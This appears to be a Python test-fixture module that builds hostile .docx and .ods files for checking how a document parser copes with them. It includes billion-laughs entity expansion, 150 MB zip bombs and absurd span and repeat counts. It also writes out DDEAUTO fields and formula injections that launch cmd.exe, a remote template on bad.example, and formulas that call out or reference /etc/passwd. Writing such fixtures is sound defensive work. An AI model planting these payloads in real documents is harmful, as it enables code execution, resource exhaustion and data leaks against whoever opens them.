"""Documents with tables, `.docx` and `.ods`, whose repetitions, spans and entities are bombs."""

from hostile_entry import MEGABYTE, Collection, rels, zip_of

DOCUMENTS = Collection()
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_ODF = "urn:oasis:names:tc:opendocument:xmlns"
_NAMES = f'xmlns:office="{_ODF}:office:1.0" xmlns:table="{_ODF}:table:1.0" xmlns:text="{_ODF}:text:1.0"'
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
)


def docx_of(body: str, before: str = "", links: str = "") -> bytes:
    """A text document with the given body."""
    parts = {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": rels(("rId1", "officeDocument", "word/document.xml")),
        "word/document.xml": f'{before}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>',
    }
    return zip_of({**parts, "word/_rels/document.xml.rels": links} if links else parts)


def cell(text: str = "1", properties: str = "") -> str:
    """A cell of a table in a text document."""
    return f"<w:tc><w:tcPr>{properties}</w:tcPr><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>"


def table(*rows: str) -> str:
    """A table in a text document."""
    return "<w:tbl>" + "".join(f"<w:tr>{row}</w:tr>" for row in rows) + "</w:tbl>"


DOCUMENTS.add("grid span.docx", "a cell over two billion columns")(
    lambda: docx_of(table(cell(properties='<w:gridSpan w:val="2000000000"/>') + cell("2")))
)
DOCUMENTS.add("grid spans.docx", "20,000 cells over 16,000 columns each")(
    lambda: docx_of(table(*[cell(properties='<w:gridSpan w:val="16000"/>')] * 20_000))
)
DOCUMENTS.add("grid span text.docx", "column spans that are no number")(
    lambda: docx_of(
        table(*(cell(properties=f'<w:gridSpan w:val="{value}"/>') for value in ("-5", "abc", "", "9" * 5000, "٣")))
    )
)
DOCUMENTS.add("grid before.docx", "a row that begins two billion columns to the right")(
    lambda: docx_of('<w:tbl><w:tr><w:trPr><w:gridBefore w:val="2000000000"/></w:trPr>' + cell() + "</w:tr></w:tbl>")
)
DOCUMENTS.add("nested tables.docx", "500 tables within each other")(
    lambda: docx_of("<w:tbl><w:tr><w:tc>" * 500 + "<w:p><w:r><w:t>1</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 500)
)
DOCUMENTS.add("nested 60000.docx", "60,000 tables within each other")(
    lambda: docx_of("<w:tbl><w:tr><w:tc>" * 60_000 + "</w:tc></w:tr></w:tbl>" * 60_000)
)
DOCUMENTS.add("cells 300000.docx", "a table of 300,000 cells")(
    lambda: docx_of(table(*["<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>" * 50] * 6_000))
)
DOCUMENTS.add("tables 100000.docx", "100,000 tables of one cell")(lambda: docx_of(table(cell()) * 100_000))
DOCUMENTS.add("text 40000.docx", "a cell of 40,000 characters")(lambda: docx_of(table(cell("x" * 40_000))))
DOCUMENTS.add("merges.docx", "20,000 cells that go on with a cell above that is not there")(
    lambda: docx_of(table(*[cell(properties="<w:vMerge/>")] * 20_000))
)
DOCUMENTS.add("entities.docx", "billion laughs in a text document")(
    lambda: docx_of(table(cell("&l9;")), before=_LAUGHS)
)
DOCUMENTS.add("bomb.docx", "a text document that expands to 150 MB")(lambda: docx_of(" " * (150 * MEGABYTE)))
DOCUMENTS.add("no document.docx", "a text document without its document")(
    lambda: zip_of({"[Content_Types].xml": "<Types/>", "word/styles.xml": "<x/>"})
)
DOCUMENTS.add("active.docx", "fields that start programs, a template on a server")(
    lambda: docx_of(
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
        + table(cell("=cmd|' /C calc'!A0")),
        links=rels(("t", "attachedTemplate", "http://bad.example/x.dotm"), external=True),
    )
)
DOCUMENTS.add("not closed.docx", "a text document that ends in the middle of a table")(
    lambda: zip_of(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": f'<w:document xmlns:w="{_WORD}"><w:body><w:tbl><w:tr><w:tc>',
        }
    )
)


def ods_of(rows: str, before: str = "", **parts: str) -> bytes:
    """A spreadsheet of LibreOffice with one sheet."""
    content = f'{before}<office:document-content {_NAMES}><office:body><office:spreadsheet><table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
    manifest = f'<manifest:manifest xmlns:manifest="{_ODF}:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>'
    return zip_of(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": manifest,
            "content.xml": content,
            **parts,
        }
    )


def ods_cell(value: str = "1", more: str = "") -> str:
    """A number in a cell of LibreOffice."""
    return f'<table:table-cell office:value-type="float" office:value="{value}" {more}><text:p>{value}</text:p></table:table-cell>'


def ods_row(cells: str, more: str = "") -> str:
    """A row of LibreOffice."""
    return f"<table:table-row {more}>{cells}</table:table-row>"


_ALL_COLUMNS, _ALL_ROWS = 'table:number-columns-repeated="16384"', 'table:number-rows-repeated="1048576"'
DOCUMENTS.add("repeated columns.ods", "a number repeated over a billion columns")(
    lambda: ods_of(ods_row(ods_cell(more='table:number-columns-repeated="1000000000"')))
)
DOCUMENTS.add("repeated all.ods", "a number repeated over the whole grid")(
    lambda: ods_of(ods_row(ods_cell(more=_ALL_COLUMNS), _ALL_ROWS))
)
DOCUMENTS.add("repeated rows.ods", "a row of one number repeated a million times")(
    lambda: ods_of(ods_row(ods_cell(), _ALL_ROWS))
)
DOCUMENTS.add(
    "repeated blanks.ods",
    "blank rows and columns to the end of the grid, as LibreOffice writes them, and a figure at the end",
)(
    lambda: ods_of(
        ods_row(ods_cell())
        + ods_row("<table:table-cell/>", 'table:number-rows-repeated="1048574"')
        + ods_row('<table:table-cell table:number-columns-repeated="16383"/>' + ods_cell("2"))
    )
)
DOCUMENTS.add("repeated text.ods", "repetitions that are no number")(
    lambda: ods_of(
        "".join(
            ods_row(ods_cell(more=f'table:number-columns-repeated="{value}"'))
            for value in ("-3", "abc", "", "9" * 400, "0")
        )
    )
)
DOCUMENTS.add("repeated groups.ods", "1,000 rows each repeated 1,000 times with 1,000 columns")(
    lambda: ods_of(
        ods_row(ods_cell(more='table:number-columns-repeated="1000"'), 'table:number-rows-repeated="1000"') * 1000
    )
)
DOCUMENTS.add("values.ods", "numbers that are none, and types that do not exist")(
    lambda: ods_of(
        ods_row(
            ods_cell("NaN")
            + ods_cell("1e999")
            + ods_cell("abc")
            + '<table:table-cell office:value-type="zz" office:value="1"/><table:table-cell office:value-type="date" office:date-value="99999-99-99"/>'
        )
    )
)
DOCUMENTS.add("spanned.ods", "a merge over four billion rows")(
    lambda: ods_of(
        ods_row(ods_cell(more='table:number-columns-spanned="4294967295" table:number-rows-spanned="4294967295"'))
    )
)
DOCUMENTS.add("nested.ods", "100,000 groups of rows within each other")(
    lambda: ods_of("<table:table-row-group>" * 100_000 + ods_row(ods_cell()) + "</table:table-row-group>" * 100_000)
)
DOCUMENTS.add("entities.ods", "billion laughs in a spreadsheet of LibreOffice")(
    lambda: ods_of(
        ods_row("<table:table-cell office:value-type='string'><text:p>&l9;</text:p></table:table-cell>"), before=_LAUGHS
    )
)
DOCUMENTS.add("bomb.ods", "a spreadsheet of LibreOffice that expands to 150 MB")(lambda: ods_of(" " * (150 * MEGABYTE)))
DOCUMENTS.add("no content.ods", "a spreadsheet of LibreOffice without its content")(
    lambda: zip_of({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"})
)
DOCUMENTS.add("spaces.ods", "a text with two billion spaces, written as a number")(
    lambda: ods_of(
        ods_row(
            '<table:table-cell office:value-type="string"><text:p>a<text:s text:c="2000000000"/>b</text:p></table:table-cell>'
        )
    )
)
DOCUMENTS.add("active.ods", "formulas of LibreOffice that call out, macros and a DDE link")(
    lambda: ods_of(
        ods_row(
            ods_cell(more='table:formula="of:=DDE(&quot;soffice&quot;;&quot;/etc/passwd&quot;;&quot;A1&quot;)"')
            + ods_cell(more='table:formula="of:=WEBSERVICE(&quot;http://bad.example&quot;)"')
            + '<table:table-cell office:value-type="string"><text:p>=1+1</text:p></table:table-cell>'
        ),
        **{"Basic/Standard/Module1.xml": "<x/>"},
    )
)
DOCUMENTS.add("encrypted.ods", "a spreadsheet of LibreOffice with a password")(
    lambda: ods_of(
        "",
        **{
            "META-INF/manifest.xml": f'<manifest:manifest xmlns:manifest="{_ODF}:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml" manifest:size="1000" manifest:media-type="text/xml"><manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/></manifest:file-entry></manifest:manifest>',
            "content.xml": "\x01\x02\x03",
        },
    )
)
